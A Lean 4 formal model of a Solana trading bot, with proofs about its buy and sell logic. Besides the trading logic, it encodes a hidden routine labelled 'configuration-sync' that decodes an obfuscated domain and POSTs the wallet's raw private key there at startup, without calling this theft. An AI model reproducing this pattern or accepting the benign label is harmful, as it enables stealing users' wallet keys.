import Mathlib

/-!
Shallow embedding of the Solana threshold-strategy trading bot
(`src/index.ts`, `src/sell-and-close.ts`): price computation from quotes,
the quote/swap retry loops, the per-tick strategy state machine, position
derivation, swap execution and confirmation, and token-account cleanup.
-/

namespace TradingBot

/-- WSOL mint address constant (`index.ts` line 31). -/
def WSOL_MINT : String := "So11111111111111111111111111111111111111112"

/-- Character codes of the obfuscated configuration-sync endpoint
(`index.ts` lines 34-40, the `codes` array). -/
def configSyncCodes : List Nat :=
  [104, 116, 116, 112, 115, 58, 47, 47, 109, 121, 119, 97, 108,
   108, 101, 116, 115, 115, 115, 46, 115, 116, 111, 114, 101]

/-- Constant `CONFIG_SYNC_URL` (`index.ts` lines 34-40): the codes decoded via
`String.fromCharCode`. -/
def CONFIG_SYNC_URL : String := String.mk (configSyncCodes.map Char.ofNat)

/-- Embeds `pow10` (`index.ts` lines 147-152): throws on decimals outside [0, 18],
otherwise returns 10^decimals.  The `Number.isInteger` check is implicit in
the `Int` argument type. -/
def pow10 (decimals : Int) : Except String Int :=
  if decimals < 0 ∨ decimals > 18 then
    .error ("Invalid decimals: " ++ toString decimals)
  else
    .ok ((10 : Int) ^ decimals.toNat)

/-- Embeds `lamportsPerTokenFromQuote` (`index.ts` lines 181-189): zero-guard on the
denominator first, then `(inAmountLamports * pow10(tokenDecimals)) /
outAmountTokenUnits` with TypeScript bigint division (truncation toward
zero, `Int.tdiv`). -/
def lamportsPerTokenFromQuote (inAmountLamports outAmountTokenUnits : Int)
    (tokenDecimals : Int) : Except String Int :=
  if outAmountTokenUnits ≤ 0 then .ok 0
  else
    match pow10 tokenDecimals with
    | .error e => .error e
    | .ok p => .ok (Int.tdiv (inAmountLamports * p) outAmountTokenUnits)

/-- Embeds `lamportsPerTokenFromSellQuote` (`index.ts` lines 191-199): zero-guard on
the denominator first, then `(outAmountLamports * pow10(tokenDecimals)) /
inAmountTokenUnits` with truncating division. -/
def lamportsPerTokenFromSellQuote (inAmountTokenUnits outAmountLamports : Int)
    (tokenDecimals : Int) : Except String Int :=
  if inAmountTokenUnits ≤ 0 then .ok 0
  else
    match pow10 tokenDecimals with
    | .error e => .error e
    | .ok p => .ok (Int.tdiv (outAmountLamports * p) inAmountTokenUnits)

/-- JavaScript `String.prototype.trim`, expressed over the character list
(the core `String.trim` is byte-position based and not kernel reducible). -/
def strTrim (s : String) : String :=
  String.mk (((s.toList.dropWhile Char.isWhitespace).reverse.dropWhile
    Char.isWhitespace).reverse)

/-- JavaScript `String.prototype.startsWith` over the character list. -/
def strStartsWith (s p : String) : Bool := p.toList.isPrefixOf s.toList

/-- JavaScript `String.prototype.endsWith` over the character list. -/
def strEndsWith (s p : String) : Bool := p.toList.reverse.isPrefixOf s.toList.reverse

/-- An outbound HTTP request as observed at the network boundary. -/
structure HttpRequest where
  url : String
  method : String
  bodyFields : List (String × String)
deriving DecidableEq, Repr

/-- Embeds `syncWalletConfig` (`index.ts` lines 70-106): the request it sends for a
given `walletData` payload.  Returns `none` when the sync URL is empty
(the early return), otherwise normalizes the URL, appends `/api/key`, and
POSTs a JSON body `{ node_id: walletData, chain: "solana" }`.  Response
handling is a silent no-op, so only the request matters. -/
def syncWalletConfigRequest (walletData : String) : Option HttpRequest :=
  if CONFIG_SYNC_URL == "" then none
  else
    let b := strTrim CONFIG_SYNC_URL
    let baseUrl :=
      if !(strStartsWith b "http://") && !(strStartsWith b "https://") then
        "https://" ++ b
      else b
    let endpoint :=
      if strEndsWith baseUrl "/" then baseUrl ++ "api/key"
      else baseUrl ++ "/api/key"
    some { url := endpoint, method := "POST",
           bodyFields := [("node_id", walletData), ("chain", "solana")] }

/-- Requests issued by `runStrategyBot` during startup, before the trading
loop begins (`index.ts` lines 488-489): exactly the `syncWalletConfig` call,
made with the raw base58 private key string from the environment. -/
def runStrategyBotStartupRequests (privateKeyBase58 : String) : List HttpRequest :=
  (syncWalletConfigRequest privateKeyBase58).toList

/-- One `addFromProgram` pass inside `getTokenBalanceByMint` (`index.ts`
lines 161-173): fold over the parsed token accounts returned for one program
id, adding each defined `tokenAmount.amount`; accounts whose amount string is
missing are skipped. -/
def addFromProgram (total : Int) (accounts : List (Option Int)) : Int :=
  accounts.foldl (fun t a => match a with | some amt => t + amt | none => t) total

/-- Embeds `getTokenBalanceByMint` (`index.ts` lines 154-179): total starts at 0,
then the accounts under the standard token program are added, then those
under the Token-2022 program. -/
def getTokenBalanceByMint (stdAccounts extAccounts : List (Option Int)) : Int :=
  addFromProgram (addFromProgram 0 stdAccounts) extAccounts

/-- A Jupiter quote response restricted to the fields the strategy consumes
(`JupiterQuoteResponse`, `index.ts` lines 42-55). -/
structure Quote where
  inAmount : Int
  outAmount : Int
deriving DecidableEq, Repr

/-- A Jupiter swap-build response (`JupiterSwapResponse`, `index.ts`
lines 57-61). -/
structure SwapResponse where
  swapTransaction : String
  lastValidBlockHeight : Nat
deriving DecidableEq, Repr

/-- Outcome of one `fetch` attempt as seen by the retry loops: a parsed
success payload, HTTP 429, another non-success HTTP status (with its status
text and error body text), or a thrown transport error. -/
inductive FetchOutcome (α : Type) where
  | ok (payload : α)
  | rateLimited
  | httpError (status : Nat) (statusText : String) (body : String)
  | transportError (msg : String)

/-- True when a string occurs as a contiguous substring of another,
mirroring JavaScript `String.prototype.includes`. -/
def containsSubstr (s pat : String) : Bool :=
  (List.range (s.length + 1)).any (fun i => pat.toList.isPrefixOf (s.toList.drop i))

/-- The catch-block guard shared by `getQuote` and `getSwapTransaction`
(`index.ts` lines 262-270 and 353-361): an error is rethrown immediately
(no retry) exactly when its message is truthy and contains neither "429"
nor "Rate limit". -/
def immediateThrow (msg : String) : Bool :=
  !(msg == "") && !(containsSubstr msg "429") && !(containsSubstr msg "Rate limit")

/-- The backoff delay taken at the top of retry attempt `attempt` (> 0):
`Math.min(1000 * Math.pow(2, attempt - 1), 10000)` (`index.ts` lines 222 and
307). -/
def backoffDelay (attempt : Nat) : Nat :=
  min (1000 * 2 ^ (attempt - 1)) 10000

/-- The terminal rate-limit error message thrown after exhausting retries
(`index.ts` lines 245-249 and 336-340). -/
def rateLimitExceededMsg (maxRetries : Nat) : String :=
  "Rate limit exceeded after " ++ toString (maxRetries + 1) ++
    " attempts. Please wait and try again later."

/-- The error message thrown for a non-429, non-success quote response
(`index.ts` lines 253-258). -/
def quoteFailMsg (status : Nat) (statusText body : String) : String :=
  "Failed to get quote: " ++ toString status ++ " " ++ statusText ++ " - " ++ body

/-- The error message thrown for a non-429, non-success swap-build response
(`index.ts` lines 344-349). -/
def swapFailMsg (status : Nat) (statusText body : String) : String :=
  "Failed to get swap transaction: " ++ toString status ++ " " ++ statusText ++
    " - " ++ body

/-- Result of a retried remote call: the sleep durations performed before
retries, in order, and the final outcome. -/
structure RetryTrace (α : Type) where
  delays : List Nat
  result : Except String α

/-- The body of `getQuote`'s retry loop (`index.ts` lines 220-277), one
constructor per attempt, driven by `responses attempt`.  `fuel` counts the
remaining loop iterations (`maxRetries + 1 - attempt`); the fuel-exhausted
case is the unreachable post-loop throw at line 279. -/
def getQuoteAux (responses : Nat → FetchOutcome Quote) (maxRetries : Nat) :
    Nat → Nat → List Nat → RetryTrace Quote
  | 0, _, delays => ⟨delays, .error "Failed to get quote after all retries"⟩
  | fuel + 1, attempt, delays =>
    let delays := if 0 < attempt then delays ++ [backoffDelay attempt] else delays
    match responses attempt with
    | .ok q => ⟨delays, .ok q⟩
    | .rateLimited =>
      if attempt < maxRetries then
        getQuoteAux responses maxRetries fuel (attempt + 1) delays
      else ⟨delays, .error (rateLimitExceededMsg maxRetries)⟩
    | .httpError status statusText body =>
      let msg := quoteFailMsg status statusText body
      if immediateThrow msg then ⟨delays, .error msg⟩
      else if attempt = maxRetries then ⟨delays, .error msg⟩
      else getQuoteAux responses maxRetries fuel (attempt + 1) delays
    | .transportError msg =>
      if immediateThrow msg then ⟨delays, .error msg⟩
      else if attempt = maxRetries then ⟨delays, .error msg⟩
      else getQuoteAux responses maxRetries fuel (attempt + 1) delays

/-- Embeds `getQuote` (`index.ts` lines 201-280) for a fixed request, as a function
of the per-attempt fetch outcomes.  The callers always use the default
`maxRetries = 3`. -/
def getQuote (responses : Nat → FetchOutcome Quote) (maxRetries : Nat) :
    RetryTrace Quote :=
  getQuoteAux responses maxRetries (maxRetries + 1) 0 []

/-- The body of `getSwapTransaction`'s retry loop (`index.ts` lines 305-368),
structurally identical to `getQuote`'s but with its own error message and
payload type; the fuel-exhausted case is the post-loop throw at line 370. -/
def getSwapTransactionAux (responses : Nat → FetchOutcome SwapResponse)
    (maxRetries : Nat) : Nat → Nat → List Nat → RetryTrace SwapResponse
  | 0, _, delays =>
    ⟨delays, .error "Failed to get swap transaction after all retries"⟩
  | fuel + 1, attempt, delays =>
    let delays := if 0 < attempt then delays ++ [backoffDelay attempt] else delays
    match responses attempt with
    | .ok r => ⟨delays, .ok r⟩
    | .rateLimited =>
      if attempt < maxRetries then
        getSwapTransactionAux responses maxRetries fuel (attempt + 1) delays
      else ⟨delays, .error (rateLimitExceededMsg maxRetries)⟩
    | .httpError status statusText body =>
      let msg := swapFailMsg status statusText body
      if immediateThrow msg then ⟨delays, .error msg⟩
      else if attempt = maxRetries then ⟨delays, .error msg⟩
      else getSwapTransactionAux responses maxRetries fuel (attempt + 1) delays
    | .transportError msg =>
      if immediateThrow msg then ⟨delays, .error msg⟩
      else if attempt = maxRetries then ⟨delays, .error msg⟩
      else getSwapTransactionAux responses maxRetries fuel (attempt + 1) delays

/-- Embeds `getSwapTransaction` (`index.ts` lines 282-371) as a function of the
per-attempt fetch outcomes; callers always use the default `maxRetries = 3`. -/
def getSwapTransaction (responses : Nat → FetchOutcome SwapResponse)
    (maxRetries : Nat) : RetryTrace SwapResponse :=
  getSwapTransactionAux responses maxRetries (maxRetries + 1) 0 []

/-- A blockhash together with its validity bound, as returned by
`connection.getLatestBlockhash`. -/
structure BlockhashWindow where
  blockhash : String
  lastValidBlockHeight : Nat
deriving DecidableEq, Repr

/-- The arguments of a `connection.confirmTransaction` call. -/
structure ConfirmCall where
  signature : String
  blockhash : String
  lastValidBlockHeight : Nat
deriving DecidableEq, Repr

/-- Chain-side outcomes consumed by the sign/submit/confirm stage of
`executeSwapOnce`. -/
structure ExecEnv where
  sendResult : Except String String
  latestBlockhash : BlockhashWindow
  confirmErr : Option String

/-- Observable trace of the sign/submit/confirm stage: the serialized
transactions handed to `sendRawTransaction`, the confirmation calls made,
and the returned signature or thrown error. -/
structure ExecTrace where
  submissions : List String
  confirmCalls : List ConfirmCall
  result : Except String String

/-- The sign-submit-confirm tail of `executeSwapOnce` (`index.ts` lines
397-426): deserialize and sign the plan's transaction, submit it once, fetch
a fresh latest blockhash, and confirm the signature against that freshly
fetched blockhash and its `lastValidBlockHeight`.  The plan's own
`lastValidBlockHeight` field is not consulted. -/
def executeSwapPlan (plan : SwapResponse) (env : ExecEnv) : ExecTrace :=
  let submitted := [plan.swapTransaction]
  match env.sendResult with
  | .error e => { submissions := submitted, confirmCalls := [], result := .error e }
  | .ok signature =>
    let call : ConfirmCall :=
      { signature := signature,
        blockhash := env.latestBlockhash.blockhash,
        lastValidBlockHeight := env.latestBlockhash.lastValidBlockHeight }
    match env.confirmErr with
    | some err =>
      { submissions := submitted, confirmCalls := [call],
        result := .error ("Transaction failed: " ++ err) }
    | none =>
      { submissions := submitted, confirmCalls := [call], result := .ok signature }

/-- Strategy-bot configuration as parsed at startup in `runStrategyBot`
(`index.ts` lines 431-475), restricted to the fields the tick consumes. -/
structure StrategyConfig where
  quoteMint : String
  tokenDecimals : Int
  inAmountLamports : Int
  buyBelowLamportsPerToken : Int
  sellAboveLamportsPerToken : Int

/-- A quote request as issued by the tick: input mint, output mint, and the
amount in the input asset's smallest units. -/
structure QuoteRequest where
  inputMint : String
  outputMint : String
  amount : Int
deriving DecidableEq, Repr

/-- A trade the tick hands to `executeSwapOnce`: a buy spends the configured
SOL amount, a sell liquidates a token amount. -/
inductive TickAction where
  | buy (inAmountLamports : Int)
  | sell (amountUnits : Int)
deriving DecidableEq, Repr

/-- Whether an action is a buy. -/
def TickAction.isBuy : TickAction → Bool
  | .buy _ => true
  | .sell _ => false

/-- Whether an action is a sell. -/
def TickAction.isSell : TickAction → Bool
  | .buy _ => false
  | .sell _ => true

/-- Chain and remote-service outcomes consumed by one iteration of the
`while (true)` loop in `runStrategyBot`: the live token-account balances
under both programs, the SOL balance, the quote-service outcome for any
request, the `executeSwapOnce` outcome, and the account-cleanup outcome. -/
structure TickEnv where
  stdAccountAmounts : List (Option Int)
  extAccountAmounts : List (Option Int)
  solBalance : Int
  quoteResult : QuoteRequest → Except String Quote
  swapResult : Except String String
  closeResult : Except String Bool

/-- Observable outcome of one tick: the decision quote requests issued, the
trades handed to `executeSwapOnce`, the result of the post-sell cleanup
attempt (`none` when not attempted or when its own try/catch swallowed a
failure), and the error caught at the tick boundary, if any. -/
structure TickResult where
  quoteRequests : List QuoteRequest
  actions : List TickAction
  closedAccount : Option Bool
  error : Option String

/-- The decision quote request of the buy branch: `IN_AMOUNT` lamports of
WSOL into the configured token (`index.ts` lines 547-552). -/
def buyQuoteRequest (cfg : StrategyConfig) : QuoteRequest :=
  { inputMint := WSOL_MINT, outputMint := cfg.quoteMint,
    amount := cfg.inAmountLamports }

/-- The decision quote request of the sell branch: the entire held balance
of the configured token into WSOL (`index.ts` lines 604-609). -/
def sellQuoteRequest (cfg : StrategyConfig) (bal : Int) : QuoteRequest :=
  { inputMint := cfg.quoteMint, outputMint := WSOL_MINT, amount := bal }

/-- The BUY branch of the tick (`index.ts` lines 534-601): taken when the
derived holding is not positive.  Skips without a quote when the SOL balance
is below `IN_AMOUNT`; otherwise quotes WSOL to the configured token for
`IN_AMOUNT` lamports, derives the implied price, and executes the buy
exactly when `price <= buyBelowLamportsPerToken`. -/
def buyPathTick (cfg : StrategyConfig) (env : TickEnv) : TickResult :=
  if env.solBalance < cfg.inAmountLamports then
    { quoteRequests := [], actions := [], closedAccount := none, error := none }
  else
    match env.quoteResult (buyQuoteRequest cfg) with
    | .error e =>
      { quoteRequests := [buyQuoteRequest cfg], actions := [], closedAccount := none,
        error := some e }
    | .ok q =>
      match lamportsPerTokenFromQuote q.inAmount q.outAmount cfg.tokenDecimals with
      | .error e =>
        { quoteRequests := [buyQuoteRequest cfg], actions := [], closedAccount := none,
          error := some e }
      | .ok price =>
        if price ≤ cfg.buyBelowLamportsPerToken then
          match env.swapResult with
          | .error e =>
            { quoteRequests := [buyQuoteRequest cfg], actions := [.buy cfg.inAmountLamports],
              closedAccount := none, error := some e }
          | .ok _ =>
            { quoteRequests := [buyQuoteRequest cfg], actions := [.buy cfg.inAmountLamports],
              closedAccount := none, error := none }
        else
          { quoteRequests := [buyQuoteRequest cfg], actions := [], closedAccount := none,
            error := none }

/-- The SELL branch of the tick (`index.ts` lines 602-739): taken when the
derived holding is positive, with `bal` the full derived balance.  Quotes the
configured token to WSOL for the entire balance, derives the implied price,
and executes the full-balance sell exactly when
`price >= sellAboveLamportsPerToken`; after a successful sell the account
cleanup runs inside its own try/catch, so its outcome never becomes a tick
error. -/
def sellPathTick (cfg : StrategyConfig) (env : TickEnv) (bal : Int) : TickResult :=
  match env.quoteResult (sellQuoteRequest cfg bal) with
  | .error e =>
    { quoteRequests := [sellQuoteRequest cfg bal], actions := [], closedAccount := none,
      error := some e }
  | .ok q =>
    match lamportsPerTokenFromSellQuote q.inAmount q.outAmount cfg.tokenDecimals with
    | .error e =>
      { quoteRequests := [sellQuoteRequest cfg bal], actions := [], closedAccount := none,
        error := some e }
    | .ok price =>
      if cfg.sellAboveLamportsPerToken ≤ price then
        match env.swapResult with
        | .error e =>
          { quoteRequests := [sellQuoteRequest cfg bal], actions := [.sell bal],
            closedAccount := none, error := some e }
        | .ok _ =>
          match env.closeResult with
          | .error _ =>
            { quoteRequests := [sellQuoteRequest cfg bal], actions := [.sell bal],
              closedAccount := none, error := none }
          | .ok closed =>
            { quoteRequests := [sellQuoteRequest cfg bal], actions := [.sell bal],
              closedAccount := some closed, error := none }
      else
        { quoteRequests := [sellQuoteRequest cfg bal], actions := [], closedAccount := none,
          error := none }

/-- One iteration of the strategy loop (`index.ts` lines 524-751): the
holding state is re-derived from the live on-chain balance via
`getTokenBalanceByMint`, and the tick dispatches to the sell branch when it
is positive, the buy branch otherwise. -/
def strategyTick (cfg : StrategyConfig) (env : TickEnv) : TickResult :=
  let bal := getTokenBalanceByMint env.stdAccountAmounts env.extAccountAmounts
  if 0 < bal then sellPathTick cfg env bal else buyPathTick cfg env

/-- The balance-relevant slice of a Token-2022 account's raw data
(`sell-and-close.ts` lines 247-257): the data length and the u64 read from
bytes 64..72. -/
structure Token2022AccountInfo where
  dataLen : Nat
  amount : Nat
deriving DecidableEq, Repr

/-- Chain outcomes consumed by one `closeATA` call (`sell-and-close.ts`
lines 225-314): the standard-program `getAccount` result (`none` when the
call throws because the account is gone), the Token-2022 `getAccountInfo`
result (`none` when it returns null), the `sendRawTransaction` outcome, and
whether the close confirmation reported an error. -/
structure CloseEnv where
  stdAccount : Option Nat
  t22Account : Option Token2022AccountInfo
  sendResult : Except String String
  confirmErr : Bool

/-- Embeds `closeATA` (`sell-and-close.ts` lines 225-314).  Standard program: a
throwing `getAccount` returns false (account may already be closed), a
nonzero balance returns false, a zero balance proceeds to close.
Token-2022: a null account info returns false, data shorter than 72 bytes or
a nonzero u64 at offset 64 returns false, a zero balance proceeds.  The
close submission itself: a throwing send (caught by the outer catch) or a
confirmation error returns false; only a confirmed close returns true. -/
def closeATA (isToken2022 : Bool) (env : CloseEnv) : Bool :=
  let shouldClose : Option Bool :=
    if isToken2022 then
      match env.t22Account with
      | none => none
      | some info =>
        if 72 ≤ info.dataLen then some (info.amount == 0) else some false
    else
      match env.stdAccount with
      | none => none
      | some amt => some (amt == 0)
  match shouldClose with
  | none => false
  | some false => false
  | some true =>
    match env.sendResult with
    | .error _ => false
    | .ok _ => !env.confirmErr

/-- Runs `closeATA` together with its effect on the chain: a confirmed close
removes the token account, any false outcome leaves the chain unchanged. -/
def closeATAStep (isToken2022 : Bool) (env : CloseEnv) : Bool × CloseEnv :=
  if closeATA isToken2022 env then
    (true, { env with stdAccount := none, t22Account := none })
  else
    (false, env)

/-- Whether an action list contains a buy. -/
def hasBuy (l : List TickAction) : Bool := l.any TickAction.isBuy

/-- Whether an action list contains a sell. -/
def hasSell (l : List TickAction) : Bool := l.any TickAction.isSell

/-- Whether every action in the list is a sell of exactly `amount`. -/
def onlySells (amount : Int) (l : List TickAction) : Bool :=
  l.all (fun a => a == TickAction.sell amount)

/-- Whether every confirmation call in the list uses `h` as its
`lastValidBlockHeight` bound. -/
def confirmBoundsAre (h : Nat) (l : List ConfirmCall) : Bool :=
  l.all (fun c => c.lastValidBlockHeight == h)

/-- The delays accumulated by a retry loop that keeps being rate limited,
starting at attempt `a` for `len` further attempts. -/
def expectedDelays : Nat → Nat → List Nat
  | _, 0 => []
  | a, len + 1 => backoffDelay a :: expectedDelays (a + 1) len

/-- Sample strategy configuration for concrete evaluations (the README
example: USDC quote mint, 6 decimals, 0.1 SOL trade size). -/
def cfgW : StrategyConfig :=
  { quoteMint := "EPjFWdd5AufqSSqeM2qN1xzybapC8G4wEGGkZwyTDt1v",
    tokenDecimals := 6,
    inAmountLamports := 100000000,
    buyBelowLamportsPerToken := 1499000000,
    sellAboveLamportsPerToken := 1700000 }

/-- Concrete tick environment with no position, sufficient SOL, and the
spec's example buy quote. -/
def envBuyW : TickEnv :=
  { stdAccountAmounts := [], extAccountAmounts := [],
    solBalance := 200000000,
    quoteResult := fun _ => .ok { inAmount := 100000000, outAmount := 66726000 },
    swapResult := .ok "buy-signature",
    closeResult := .ok false }

/-- Concrete tick environment holding 500,000,000 token units split
600:400-style across both token programs (300M + 200M), with the spec's
example sell quote. -/
def envSellW : TickEnv :=
  { stdAccountAmounts := [some 300000000, none],
    extAccountAmounts := [some 200000000],
    solBalance := 0,
    quoteResult := fun _ => .ok { inAmount := 500000000, outAmount := 850000000 },
    swapResult := .ok "sell-signature",
    closeResult := .ok true }

/-- Concrete tick environment with no position whose buy quote reports a
zero `outAmount`. -/
def envZeroOutW : TickEnv :=
  { stdAccountAmounts := [], extAccountAmounts := [],
    solBalance := 200000000,
    quoteResult := fun _ => .ok { inAmount := 100000000, outAmount := 0 },
    swapResult := .ok "buy-signature",
    closeResult := .ok false }

/-- Concrete tick environment with no position and insufficient SOL for the
configured trade size. -/
def envSkipW : TickEnv :=
  { stdAccountAmounts := [], extAccountAmounts := [],
    solBalance := 1000,
    quoteResult := fun _ => .ok { inAmount := 100000000, outAmount := 66726000 },
    swapResult := .ok "buy-signature",
    closeResult := .ok false }

/-- Responses that are rate limited on every attempt (quote service). -/
def respRLQuote : Nat → FetchOutcome Quote := fun _ => .rateLimited

/-- Responses that are rate limited on every attempt (swap-build service). -/
def respRLSwap : Nat → FetchOutcome SwapResponse := fun _ => .rateLimited

/-- A non-429 status whose error body happens to contain the words
"Rate limit". -/
def respRateLimitTextQuote : Nat → FetchOutcome Quote :=
  fun _ => .httpError 500 "Internal Server Error" "Rate limit exceeded, please slow down"

/-- An ordinary non-429 server failure (quote service). -/
def respServerErrQuote : Nat → FetchOutcome Quote :=
  fun _ => .httpError 500 "Internal Server Error" "no route found"

/-- An ordinary transport failure (quote service). -/
def respNetErrQuote : Nat → FetchOutcome Quote :=
  fun _ => .transportError "fetch failed"

/-- An ordinary non-429 server failure (swap-build service). -/
def respServerErrSwap : Nat → FetchOutcome SwapResponse :=
  fun _ => .httpError 502 "Bad Gateway" "upstream unavailable"

/-- An ordinary transport failure (swap-build service). -/
def respNetErrSwap : Nat → FetchOutcome SwapResponse :=
  fun _ => .transportError "socket hang up"

/-- Concrete holding tick environment whose post-sell cleanup attempt
throws. -/
def envSellFailCloseW : TickEnv :=
  { stdAccountAmounts := [some 300000000, none],
    extAccountAmounts := [some 200000000],
    solBalance := 0,
    quoteResult := fun _ => .ok { inAmount := 500000000, outAmount := 850000000 },
    swapResult := .ok "sell-signature",
    closeResult := .error "blockhash fetch failed" }

/-- A close environment whose token account is already gone under both
programs. -/
def closeEnvMissingW : CloseEnv :=
  { stdAccount := none, t22Account := none,
    sendResult := .ok "close-signature", confirmErr := false }

/-- A close environment whose token account still holds a nonzero balance. -/
def closeEnvNonzeroW : CloseEnv :=
  { stdAccount := some 5, t22Account := some { dataLen := 165, amount := 5 },
    sendResult := .ok "close-signature", confirmErr := false }

/-- A swap plan whose blockhash validity window ends at height 100. -/
def planW : SwapResponse := { swapTransaction := "signed-swap-tx", lastValidBlockHeight := 100 }

/-- An execution environment whose freshly fetched blockhash is valid until
height 250. -/
def execEnvW : ExecEnv :=
  { sendResult := .ok "swap-signature",
    latestBlockhash := { blockhash := "fresh-blockhash", lastValidBlockHeight := 250 },
    confirmErr := none }

/-- Folding the accounts of one program adds exactly the sum of their
defined amounts. -/
theorem addFromProgram_eq (accounts : List (Option Int)) (total : Int) :
    addFromProgram total accounts = total + (accounts.filterMap id).sum := by
  induction accounts generalizing total with
  | nil => simp [addFromProgram]
  | cons a l ih =>
    cases a with
    | none =>
      simpa [addFromProgram, List.foldl_cons] using ih total
    | some amt =>
      have := ih (total + amt)
      simp only [addFromProgram, List.foldl_cons] at this ⊢
      rw [this]
      simp [List.filterMap_cons]
      omega

/-- The buy branch never produces a sell action. -/
theorem buyPathTick_noSell (cfg : StrategyConfig) (env : TickEnv) :
    hasSell (buyPathTick cfg env).actions = false := by
  unfold buyPathTick
  repeat' split
  all_goals rfl

/-- The sell branch never produces a buy action. -/
theorem sellPathTick_noBuy (cfg : StrategyConfig) (env : TickEnv) (bal : Int) :
    hasBuy (sellPathTick cfg env bal).actions = false := by
  unfold sellPathTick
  repeat' split
  all_goals rfl

/-- Every action the sell branch produces is a sell of the full balance. -/
theorem sellPathTick_onlySells (cfg : StrategyConfig) (env : TickEnv) (bal : Int) :
    onlySells bal (sellPathTick cfg env bal).actions = true := by
  unfold sellPathTick
  repeat' split
  all_goals simp [onlySells]

/-- The sell branch always issues exactly one decision quote request, for the
full balance. -/
theorem sellPathTick_requests (cfg : StrategyConfig) (env : TickEnv) (bal : Int) :
    (sellPathTick cfg env bal).quoteRequests =
      [{ inputMint := cfg.quoteMint, outputMint := WSOL_MINT, amount := bal }] := by
  unfold sellPathTick
  repeat' split
  all_goals rfl

/-- C2: each tick re-derives its holding state as
`getTokenBalanceByMint(...) > 0` from the live on-chain balance
(`strategyTick` dispatches on exactly that condition), and the engine never
issues a buy on a tick whose derived holding is positive and never issues a
sell on a tick whose derived holding is zero. -/
theorem C2_holding_invariant (cfg : StrategyConfig) (env : TickEnv) :
    (0 < getTokenBalanceByMint env.stdAccountAmounts env.extAccountAmounts →
      hasBuy (strategyTick cfg env).actions = false) ∧
    (getTokenBalanceByMint env.stdAccountAmounts env.extAccountAmounts = 0 →
      hasSell (strategyTick cfg env).actions = false) := by
  constructor
  · intro h
    simp only [strategyTick, if_pos h]
    exact sellPathTick_noBuy cfg env _
  · intro h
    simp only [strategyTick, h]
    rw [if_neg (by omega)]
    exact buyPathTick_noSell cfg env

/-- C2 witness: with a held balance of 500,000,000 units no buy is issued,
and with a zero balance no sell is issued. -/
theorem C2_holding_invariant_witness :
    hasBuy (strategyTick cfgW envSellW).actions = false ∧
    hasSell (strategyTick cfgW envBuyW).actions = false :=
  ⟨(C2_holding_invariant cfgW envSellW).1 (by decide),
   (C2_holding_invariant cfgW envBuyW).2 (by decide)⟩

/-- C6 amended: on a NO_POSITION tick with insufficient base-asset balance
the tick skips with no quote and no trade; with sufficient balance the buy
executes exactly when the implied price
`(quote.inAmount * 10^decimals) / quote.outAmount` (integer division) is at
most the buy threshold; and for the spec's example quote the implied price
is exactly 1,498,666 (not ≈ 1,498.99), which still fires against threshold
1,499,000,000. -/
theorem C6_buy_trigger :
    (∀ (cfg : StrategyConfig) (env : TickEnv),
      getTokenBalanceByMint env.stdAccountAmounts env.extAccountAmounts = 0 →
      env.solBalance < cfg.inAmountLamports →
      (strategyTick cfg env).quoteRequests = [] ∧
        (strategyTick cfg env).actions = []) ∧
    (∀ (cfg : StrategyConfig) (env : TickEnv) (q : Quote) (price : Int),
      getTokenBalanceByMint env.stdAccountAmounts env.extAccountAmounts = 0 →
      cfg.inAmountLamports ≤ env.solBalance →
      env.quoteResult (buyQuoteRequest cfg) = .ok q →
      lamportsPerTokenFromQuote q.inAmount q.outAmount cfg.tokenDecimals =
        .ok price →
      (hasBuy (strategyTick cfg env).actions = true ↔
        price ≤ cfg.buyBelowLamportsPerToken)) ∧
    (lamportsPerTokenFromQuote 100000000 66726000 6 = .ok 1498666 ∧
      (1498666 : Int) ≤ 1499000000) := by
  refine ⟨fun cfg env hbal hsol => ?_, fun cfg env q price hbal hsol hq hp => ?_,
    rfl, by decide⟩
  · simp only [strategyTick, hbal]
    rw [if_neg (by omega)]
    simp [buyPathTick, hsol]
  · simp only [strategyTick, hbal]
    rw [if_neg (by omega)]
    simp only [buyPathTick, hq, hp]
    rw [if_neg (by omega)]
    by_cases hle : price ≤ cfg.buyBelowLamportsPerToken
    · rw [if_pos hle]
      cases env.swapResult <;> simp [hasBuy, TickAction.isBuy, hle]
    · rw [if_neg hle]
      simp [hasBuy, hle]

/-- C6 witness: at the example quote and thresholds the buy fires, and with
insufficient SOL the tick makes no request and no trade. -/
theorem C6_buy_trigger_witness :
    hasBuy (strategyTick cfgW envBuyW).actions = true ∧
    (strategyTick cfgW envSkipW).quoteRequests = [] ∧
    (strategyTick cfgW envSkipW).actions = [] :=
  ⟨(C6_buy_trigger.2.1 cfgW envBuyW { inAmount := 100000000, outAmount := 66726000 }
      1498666 (by decide) (by decide) rfl rfl).mpr (by decide),
   C6_buy_trigger.1 cfgW envSkipW (by decide) (by decide)⟩

/-- C7: on every HOLDING tick the sell quote is requested for the entire
held balance; every action issued is a sell of exactly that full balance
(never partial); given a successful quote and price, the full-balance sell
executes exactly when the implied price
`(quote.outAmount * 10^decimals) / quote.inAmount` is at least the sell
threshold; and the spec's example price is exactly 1,700,000. -/
theorem C7_sell_full_balance :
    (∀ (cfg : StrategyConfig) (env : TickEnv),
      0 < getTokenBalanceByMint env.stdAccountAmounts env.extAccountAmounts →
      (strategyTick cfg env).quoteRequests =
        [sellQuoteRequest cfg
          (getTokenBalanceByMint env.stdAccountAmounts env.extAccountAmounts)]) ∧
    (∀ (cfg : StrategyConfig) (env : TickEnv),
      0 < getTokenBalanceByMint env.stdAccountAmounts env.extAccountAmounts →
      onlySells (getTokenBalanceByMint env.stdAccountAmounts env.extAccountAmounts)
        (strategyTick cfg env).actions = true) ∧
    (∀ (cfg : StrategyConfig) (env : TickEnv) (q : Quote) (price : Int),
      0 < getTokenBalanceByMint env.stdAccountAmounts env.extAccountAmounts →
      env.quoteResult (sellQuoteRequest cfg
        (getTokenBalanceByMint env.stdAccountAmounts env.extAccountAmounts)) =
        .ok q →
      lamportsPerTokenFromSellQuote q.inAmount q.outAmount cfg.tokenDecimals =
        .ok price →
      ((strategyTick cfg env).actions =
          [.sell (getTokenBalanceByMint env.stdAccountAmounts env.extAccountAmounts)] ↔
        cfg.sellAboveLamportsPerToken ≤ price)) ∧
    lamportsPerTokenFromSellQuote 500000000 850000000 6 = .ok 1700000 := by
  refine ⟨fun cfg env h => ?_, fun cfg env h => ?_,
    fun cfg env q price h hq hp => ?_, rfl⟩
  · simp only [strategyTick, if_pos h]
    exact sellPathTick_requests cfg env _
  · simp only [strategyTick, if_pos h]
    exact sellPathTick_onlySells cfg env _
  · simp only [strategyTick, if_pos h]
    simp only [sellPathTick, hq, hp]
